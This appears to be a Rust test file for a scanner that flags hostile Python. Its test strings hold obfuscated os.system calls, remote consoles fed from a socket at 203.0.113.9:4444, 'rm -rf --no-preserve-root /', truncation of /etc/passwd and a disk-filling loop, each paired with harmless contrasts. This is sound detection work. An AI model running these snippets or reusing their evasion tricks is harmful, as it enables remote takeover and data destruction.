//! Mechanisms found by the ninth session's blind sets, part two: calls hidden behind
//! names assembled at run time, code templates filled from JSON or compiled first,
//! imports inside evaluated strings, consoles fed from a socket, `setattr` on objects,
//! truncation of system files, and disks filled until writing fails.

use super::*;

#[test]
fn calls_reached_through_assembled_names_are_hidden() {
    // The module and the function both spelled in pieces.
    let parts = "PARTS = {'m': ['o', 's'], 'f': ['sys', 'tem']}\ndef resolve(p):\n    mod = __import__(''.join(p['m']))\n    return getattr(mod, ''.join(p['f']))\nresolve(PARTS)('id; uname -a')\n";
    fires("CRD209", parts);
    level(Level::High, parts);
    // `importlib` and `operator.attrgetter` with joined names.
    fires(
        "CRD209",
        "import importlib, operator\nmod = importlib.import_module(''.join(['p', 'o', 's', 'i', 'x']))\noperator.attrgetter(''.join(['sys', 'tem']))(mod)('id')\n",
    );
}

#[test]
fn calls_named_in_plain_words_are_not_hidden() {
    // A name written whole, even through getattr, hides nothing.
    let plain = "import subprocess\nrun = getattr(subprocess, 'run')\nrun(['git', 'status'])\n";
    silent("CRD209", plain);
    level(Level::Low, plain);
    // Assembled names of harmless functions.
    level(
        Level::Low,
        "import math\nf = getattr(math, 'sq' + 'rt')\nprint(f(9))\n",
    );
}

#[test]
fn code_templates_filled_from_json_or_compiled_first_are_read() {
    // The template's parts kept as JSON text.
    let json = "import json\nPROBE = json.loads('{\"module\": \"subprocess\", \"call\": \"getoutput\", \"arg\": \"hostname -I\"}')\nTEMPLATE = 'import {module}\\nresult = {module}.{call}({arg!r})\\n'\nns = {}\nexec(TEMPLATE.format(**PROBE), ns)\nprint(ns['result'])\n";
    fires("CRD209", json);
    level(Level::High, json);
    // Code with run-time parts compiled, then run: what is known of it is still read.
    let compiled = "def make(name):\n    src = f'class {name}:\\n    pass\\n'\n    src += \"__import__('os').system('id > .env_dump')\\n\"\n    exec(compile(src, '<gen>', 'exec'), {})\nmake(input())\n";
    fires("CRD209", compiled);
}

#[test]
fn imports_inside_evaluated_strings_are_hidden() {
    // A reversed expression importing a module, evaluated.
    let reversed = "EXPR = \")(emanu.)'mroftalp'(__tropmi__\"\nprint(eval(EXPR[::-1]))\n";
    fires("CRD209", reversed);
    level(Level::High, reversed);
    // Code given to `python -c` is on the command line for anyone to read: not hidden.
    let inline = "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import time; time.sleep(1)'])\n";
    silent("CRD209", inline);
    // Evaluated arithmetic imports nothing.
    level(Level::Low, "print(eval('2 ** 10 + len([1, 2])'))\n");
}

#[test]
fn consoles_fed_from_a_socket_are_remote_shells() {
    // `code.interact` reading each line from a connection.
    let interact = "import code, socket\ns = socket.create_connection(('203.0.113.9', 4444))\nf = s.makefile('rw')\ndef rd(prompt=''):\n    f.write(prompt); f.flush()\n    return f.readline()\ncode.interact(readfunc=rd, local={})\n";
    fires("CRD101", interact);
    level(Level::Blocked, interact);
    // A library console pushed what the socket sends.
    let push = "import code, socket\ns = socket.create_connection(('203.0.113.9', 4444))\nconsole = code.InteractiveConsole()\nwhile True:\n    console.push(s.recv(1024).decode())\n";
    fires("CRD102", push);
    // A console reading the keyboard is a REPL.
    level(
        Level::Low,
        "import code\ncode.interact(banner='debug', local={'x': 1})\n",
    );
}

#[test]
fn setattr_on_an_object_is_an_assignment() {
    let hidden = "import os\nclass Runner: pass\nr = Runner()\nsetattr(r, 'go', os.system)\nr.go('rm -rf --no-preserve-root /')\n";
    fires("CRD104", hidden);
    level(Level::Blocked, hidden);
    level(
        Level::Low,
        "class Config: pass\nc = Config()\nsetattr(c, 'verbose', True)\nprint(c.verbose)\n",
    );
}

#[test]
fn truncating_system_files_destroys_them() {
    fires("CRD104", "import os\nos.truncate('/etc/passwd', 0)\n");
    fires(
        "CRD104",
        "import os\nfd = os.open('/etc/hosts', os.O_WRONLY)\nos.ftruncate(fd, 0)\n",
    );
    // The program's own log cut back.
    level(Level::Low, "import os\nos.truncate('run.log', 0)\n");
}

#[test]
fn writing_until_the_disk_is_full_is_a_disk_bomb() {
    // Each pass writes a new file of big blocks; only a failed write ends the loop.
    let fill = "import os\nBLOCK = os.urandom(8 << 20)\ni = 0\nwhile True:\n    try:\n        with open(f'/var/tmp/.c{i}', 'wb') as f:\n            for _ in range(128):\n                f.write(BLOCK)\n    except OSError:\n        break\n    i += 1\n";
    fires("CRD112", fill);
    level(Level::Blocked, fill);
    // Reading items until an iterator runs out is no bomb.
    level(
        Level::Low,
        "it = iter(range(10))\nitems = []\nwhile True:\n    try:\n        items.append(next(it))\n    except StopIteration:\n        break\nprint(items)\n",
    );
    // Writing a fixed amount once is a benchmark.
    silent(
        "CRD112",
        "import os\nBLOCK = os.urandom(8 << 20)\nwith open('bench.dat', 'wb') as f:\n    for _ in range(16):\n        f.write(BLOCK)\n",
    );
}

#[test]
fn tools_asked_only_for_their_version_do_nothing_else() {
    // `docker --version` reaches no daemon.
    let versions = "import shutil, subprocess\nfor name in ('git', 'docker', 'make'):\n    path = shutil.which(name)\n    if path:\n        print(subprocess.run([path, '--version'], capture_output=True, text=True).stdout)\n";
    silent("CRD106", versions);
    level(Level::Low, versions);
    fires(
        "CRD106",
        "import subprocess\nsubprocess.run(['docker', 'exec', 'db', 'sh'])\n",
    );
}

#[test]
fn dicts_copied_with_extra_keywords_keep_both() {
    // A field added to a table of expressions by `dict(table, key=...)`, then evaluated.
    let merged = "FIELDS = {'rows': 'len(data)'}\ndef host_field():\n    return \"{p}('{m}').{f}('id')\".format(p='__imp' + 'ort__', m='sub' + 'process', f='get' + 'output')\nfields = dict(FIELDS, host=host_field())\ndata = [1, 2]\nprint({k: eval(e, {'data': data}) for k, e in fields.items()})\n";
    fires("CRD209", merged);
    level(
        Level::Low,
        "FIELDS = {'rows': 'len(data)'}\nfields = dict(FIELDS, total='sum(data)')\ndata = [1, 2]\nprint({k: eval(e, {'data': data}) for k, e in fields.items()})\n",
    );
}

#[test]
fn method_callers_with_assembled_names_are_hidden() {
    let caller =
        "import operator, os\nrun = operator.methodcaller('sy' + 'stem', 'uptime')\nrun(os)\n";
    fires("CRD209", caller);
    level(Level::High, caller);
}

#[test]
fn generated_code_importing_harmless_modules_hides_nothing() {
    level(
        Level::Low,
        "src = 'import math\\nfrom dataclasses import dataclass\\nresult = math.sqrt(16)\\n'\nns = {}\nexec(src, ns)\nprint(ns['result'])\n",
    );
    level(Level::Low, "print(eval(\"__import__('math').sqrt(16)\"))\n");
    // An entry point `module:function` split from one string names both plainly.
    silent(
        "CRD209",
        "import importlib\nmod, fn = 'shutil:rmtree'.split(':')\ngetattr(importlib.import_module(mod), fn)('build')\n",
    );
}
